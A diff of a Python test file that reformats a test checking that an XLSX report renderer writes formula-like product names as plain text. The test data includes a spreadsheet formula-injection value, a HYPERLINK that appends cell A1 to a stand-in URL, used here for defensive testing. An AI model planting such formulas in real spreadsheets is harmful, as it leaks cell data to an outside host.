@@ -15,9 +15,17 @@ FORMULA = '=HYPERLINK("http://x"&A1,"点我")'
 
 
 def test_text_that_looks_like_a_formula_stays_text() -> None:
-    frame = pd.DataFrame({"商品名称": [FORMULA, "http://example.invalid/a", "普通商品"], "gmv": [1.0, 2.0, 3.0]})
-    report = Report(kind="monthly_business_review", brand="acme", period="2026-03", title="t", file_stem="t",
-                    sections=[Section("s", tables=[Table("商品", "商品", frame, {"gmv": "money"})])])
+    frame = pd.DataFrame(
+        {"商品名称": [FORMULA, "http://example.invalid/a", "普通商品"], "gmv": [1.0, 2.0, 3.0]}
+    )
+    report = Report(
+        kind="monthly_business_review",
+        brand="acme",
+        period="2026-03",
+        title="t",
+        file_stem="t",
+        sections=[Section("s", tables=[Table("商品", "商品", frame, {"gmv": "money"})])],
+    )
     data = render_xlsx(report)
     with zipfile.ZipFile(io.BytesIO(data)) as z:
         sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
